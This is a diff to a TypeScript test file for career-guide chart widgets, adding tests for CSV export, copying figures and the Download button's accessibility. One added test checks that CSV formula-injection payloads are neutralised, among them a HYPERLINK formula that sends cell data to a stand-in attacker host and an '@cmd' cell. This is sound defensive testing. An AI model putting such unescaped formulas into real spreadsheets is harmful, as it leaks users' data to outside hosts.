@@ -9,8 +9,13 @@ import { expect, waitUntil } from '@open-wc/testing';
 import '../src/salary/salary.js';
 import '../src/tiers/tiers.js';
 import '../src/day/day.js';
+import '../src/demand/demand.js';
+import '../src/facts/facts.js';
+import '../src/balance/balance.js';
+import '../src/skills/skills.js';
 import '../src/guide/guide.js';
 import { configureWidgets } from '../src/data/config.js';
+import { BALANCE_RATINGS, DEMAND_LEVELS, STRESS_LEVELS } from '../src/contract/schema.js';
 import { cellText, fileName, toCsv } from '../src/export/figures.js';
 import type { GuideElement } from '../src/element/guide-element.js';
 import { sampleGuide } from './support/guides.js';
@@ -27,8 +32,8 @@ const seedLines = (await (await fetch('/test/fixtures/operations-engineer.seed.t
 /** `$79,000` or `79,000` as a number. */
 const amount = (text: string) => Number(text.replace(/[$,+]/g, ''));
 
-/** The first line with words after `line` in the seed. */
-const after = (line: string) => seedLines.slice(seedLines.indexOf(line) + 1).find(Boolean)!;
+/** The first line with words after `line` in the seed (its first from `from` on). */
+const after = (line: string, from = 0) => seedLines.slice(seedLines.indexOf(line, from) + 1).find(Boolean)!;
 
 async function drawn<T extends GuideElement>(tag: string, guide: unknown = sampleGuide(), width = 720): Promise<T> {
   return settled((await mount(tag, width, (element) => (element.data = guide))) as unknown as T);
@@ -107,6 +112,66 @@ describe('the CSV of the bundled guide', () => {
     expect(records.slice(1).map((record) => `Focus: ${record[3]}`)).to.deep.equal(blocks.map(([label]) => after(seedLines.find((line) => line.startsWith(`${label} (`))!)));
   });
 
+  it('has the seed page’s market demand: its level on the scale and the growth rate', async () => {
+    const { name, records } = await csvOf(await drawn('career-demand'));
+    expect(name).to.equal('operations-engineer-demand.csv');
+    // The gauge's end labels, then the level in words.
+    const level = after('High', seedLines.findIndex((line) => line.endsWith('Market Demand'))).toLowerCase();
+    const growth = /^Growth Rate: (\d+)%$/.exec(seedLines.find((line) => line.startsWith('Growth Rate: '))!)![1]!;
+    expect(records).to.deep.equal([
+      ['Figure', 'Value', 'Unit', 'Position', 'Out of'],
+      ['Market demand', level, '', String(DEMAND_LEVELS.indexOf(level as 'high') + 1), String(DEMAND_LEVELS.length)],
+      ['projected growth', growth, 'percent', '', ''],
+    ]);
+  });
+
+  it('has the seed page’s headline facts, each in the columns of its kind', async () => {
+    const element = await drawn('career-facts');
+    const { name, records } = await csvOf(element);
+    expect(name).to.equal('operations-engineer-facts.csv');
+    const labels = [...shadow(element).querySelectorAll('.term')].map((term) => term.textContent.trim());
+    const [growth, median] = [seedLines[4]!, seedLines[8]!];
+    const status = seedLines.find((line) => line.startsWith('Status: '))!.slice('Status: '.length);
+    const source = seedLines.find((line) => line.startsWith('Source: ') && line.includes('Statistics'))!.slice('Source: '.length);
+    expect(records).to.deep.equal([
+      ['Figure', 'Value', 'Unit', 'Currency', 'Period', 'Source'],
+      [labels[0]!, String(parseFloat(growth)), 'percent', '', '', ''],
+      [labels[1]!, String(amount(median)), '', 'USD', 'year', ''],
+      [labels[2]!, String(seedLines.includes('remote-friendly')), '', '', '', ''],
+      [labels[3]!, status, '', '', '', source],
+    ]);
+  });
+
+  it('has the seed page’s stress and balance, on their scales', async () => {
+    const { name, records } = await csvOf(await drawn('career-balance'));
+    expect(name).to.equal('operations-engineer-balance.csv');
+    const rating = (prefix: string) => seedLines.find((line) => line.startsWith(prefix))!.slice(prefix.length).toLowerCase().replaceAll(' ', '-');
+    const [stress, balance] = [rating('Stress Level: '), rating('Balance Rating: ')];
+    expect(records).to.deep.equal([
+      ['Figure', 'Value', 'Position', 'Out of'],
+      ['Stress level', stress, String(STRESS_LEVELS.indexOf(stress as 'high') + 1), String(STRESS_LEVELS.length)],
+      ['Work-life balance', balance, String(BALANCE_RATINGS.indexOf(balance as 'good') + 1), String(BALANCE_RATINGS.length)],
+    ]);
+  });
+
+  it('has the seed page’s skill map, a row per skill', async () => {
+    const { name, records } = await csvOf(await drawn('career-skills'));
+    expect(name).to.equal('operations-engineer-skills.csv');
+    // From "Skill Map" to "Pros & Cons": a level's title two lines before its first bullet.
+    const map = seedLines.slice(seedLines.indexOf('Skill Map'), seedLines.findIndex((line) => line.startsWith('Pros & Cons')));
+    const ids = sampleGuide().skillMap!.levels.map((level) => level.id);
+    let title = '';
+    const rows = map.flatMap((line, index) => {
+      if (!line.startsWith('• ')) return [];
+      if (!map[index - 1]!.startsWith('• ')) title = map[index - 4]!;
+      return [[title, line.slice(2)]];
+    });
+    expect(records[0]).to.deep.equal(['Level id', 'Level', 'Skill']);
+    expect(records.slice(1).map((record) => record.slice(1))).to.deep.equal(rows);
+    const titles = [...new Set(rows.map(([level]) => level))];
+    expect(records.slice(1).map((record) => record[0])).to.deep.equal(rows.map(([level]) => ids[titles.indexOf(level)]));
+  });
+
   it('is the table the chart shows, in the reader’s language', async () => {
     const element = await drawn('career-salary');
     element.locale = 'de-DE';
@@ -142,6 +207,18 @@ describe('hostile labels in the downloaded figures', () => {
       expect(label, label).not.to.match(/^[=+\-@\t\r]/);
       expect(label, label).not.to.match(/[\u202a-\u202e\u2066-\u2069]/);
     }
+  });
+
+  it('neutralises them where the guide’s words are the figures: skills, levels and the outlook', async () => {
+    const sample = sampleGuide();
+    sample.skillMap!.levels[0]!.title = hostile[0]!;
+    sample.skillMap!.levels[0]!.skills = hostile;
+    sample.outlook!.status = hostile[1]!;
+    const skills = (await csvOf(await drawn('career-skills', sample))).records.slice(1);
+    const facts = (await csvOf(await drawn('career-facts', sample))).records.slice(1);
+    const cells = [...skills.flatMap((record) => record.slice(1)), facts.at(-1)![1]!];
+    expect(cells).to.include.members([`'=HYPERLINK("https://evil.example/?"&A1,"Click")`, "'+SUM(1+1)", "'-2+3", "'@cmd", 'gnp.exe']);
+    for (const cell of cells) expect(cell, cell).not.to.match(/^[=+\-@\t\r]|[\u202a-\u202e\u2066-\u2069]/);
   });
 
   it('neutralises them in the copied text too, one row a line', async () => {
@@ -358,6 +435,59 @@ describe('the Download button', () => {
     }
   });
 
+  // Charts whose figures are all written out: Download alone on their row, the figures only (their drawing is not one SVG).
+  for (const tag of ['career-demand', 'career-facts', 'career-balance', 'career-skills']) {
+    it(`on <${tag}> stands alone on its row, names its choices, and passes axe open and closed`, async () => {
+      const element = await drawn(tag);
+      const root = shadow(element);
+      const row = root.querySelector('.table-toggle')!;
+      const { toggle } = downloadButtons(root);
+      expect([...row.querySelectorAll('button')]).to.deep.equal([toggle]);
+      expect(root.querySelector('[part="table-toggle"]'), 'no Show as table').to.equal(null);
+      expect(toggle!.tabIndex, 'in the tab order').to.equal(0);
+      expect(computeAccessibleName(toggle!)).to.equal('Download');
+      await expect(element, 'axe, closed').to.be.accessible();
+      toggle!.focus();
+      expect(root.activeElement).to.equal(toggle);
+      toggle!.click();
+      await element.updateComplete;
+      expect(toggle!.getAttribute('aria-expanded')).to.equal('true');
+      const title = root.querySelector('.title')!.textContent;
+      const names = [...root.querySelectorAll<HTMLElement>('[data-download]')].map((button) => computeAccessibleName(button));
+      expect(names).to.deep.equal(['Download data (CSV)', 'Copy figures'].map((words) => `${words} ${title}`));
+      await expect(element, 'axe, open').to.be.accessible();
+    });
+
+    it(`on <${tag}> copies the figures as the CSV has them`, async () => {
+      const element = await drawn(tag);
+      const { records } = await csvOf(element);
+      let copied = '';
+      const writeText = (text: string) => {
+        copied = text;
+        return Promise.resolve();
+      };
+      Object.defineProperty(navigator.clipboard, 'writeText', { configurable: true, value: writeText });
+      try {
+        await choose(element, 'copy');
+        await waitUntil(() => copied, 'nothing was copied');
+      } finally {
+        delete (navigator.clipboard as unknown as Record<string, unknown>).writeText;
+      }
+      expect(copied.split('\n').map((line) => line.split('\t'))).to.deep.equal(records);
+    });
+
+    it(`on <${tag}> is off with downloads="off": no row at all`, async () => {
+      const off = await mount(tag, 600, (element) => {
+        element.data = sampleGuide();
+        element.downloads = 'off';
+      });
+      await settled(off);
+      expect(shadow(off).querySelector('.table-toggle')).to.equal(null);
+      configureWidgets({ downloads: 'off' });
+      expect(shadow(await drawn(tag)).querySelector('.table-toggle'), 'page-wide off').to.equal(null);
+    });
+  }
+
   it('is off with downloads="off", on the page by default, and back on per element', async () => {
     const off = await mount('career-salary', 600, (element) => {
       element.data = sampleGuide();
@@ -382,10 +512,11 @@ describe('the Download button', () => {
       element.setAttribute('downloads', 'off');
     });
     await settled(guide);
-    const charts = ['career-salary', 'career-tiers', 'career-day'].map((tag) => shadow(guide).querySelector<GuideElement>(tag)!);
+    const tags = ['career-salary', 'career-tiers', 'career-day', 'career-demand', 'career-facts', 'career-balance', 'career-skills'];
+    const charts = tags.map((tag) => shadow(guide).querySelector<GuideElement>(tag)!);
     await Promise.all(charts.map((chart) => settled(chart)));
-    expect(charts.map((chart) => chart.getAttribute('downloads'))).to.deep.equal(['off', 'off', 'off']);
-    expect(charts.map((chart) => downloadButtons(shadow(chart)).toggle)).to.deep.equal([null, null, null]);
+    expect(charts.map((chart) => chart.getAttribute('downloads'))).to.deep.equal(tags.map(() => 'off'));
+    expect(charts.map((chart) => downloadButtons(shadow(chart)).toggle)).to.deep.equal(tags.map(() => null));
     guide.removeAttribute('downloads');
     await guide.updateComplete;
     await Promise.all(charts.map((chart) => chart.updateComplete));
